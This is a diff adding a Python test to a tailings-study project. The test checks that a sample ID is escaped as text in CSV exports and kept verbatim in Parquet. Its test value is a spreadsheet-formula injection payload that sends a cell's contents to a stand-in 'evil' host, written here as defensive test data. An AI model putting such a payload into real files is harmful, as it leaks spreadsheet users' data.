@@ -7,6 +7,7 @@ import pyarrow.parquet
 import pytest
 
 from tailings.study import net_values, tables
+from tailings.study.sample_table import SampleRow
 from tests.tailings.study.example import result
 
 LABEL = tables.Label("demo", 3, "a" * 64, "b" * 64, "CC-BY-4.0")
@@ -46,3 +47,16 @@ def test_composites_are_those_that_the_strip_logs_draw() -> None:
         )
         == drawn
     )
+
+
+def test_an_id_of_a_sample_is_never_a_formula() -> None:
+    """A laboratory's file may hold any text; as CSV it is marked as text, as Parquet it is what it was."""
+    drawn, text = net_values(result(), {}), '=HYPERLINK("http://evil/?"&A1)'
+    samples = [SampleRow(text, 1, *["" if one != "assays" else [] for one in SampleRow._fields[2:]])]
+    found, packed = (
+        tables.file("samples", form, result(), drawn, LABEL, samples=samples) for form in ("csv", "parquet")
+    )
+    (row,) = csv.DictReader(io.StringIO(found.decode(), newline=""))
+
+    assert row["sample"] == "'" + text
+    assert pyarrow.parquet.read_table(io.BytesIO(packed))["sample"].to_pylist() == [text]
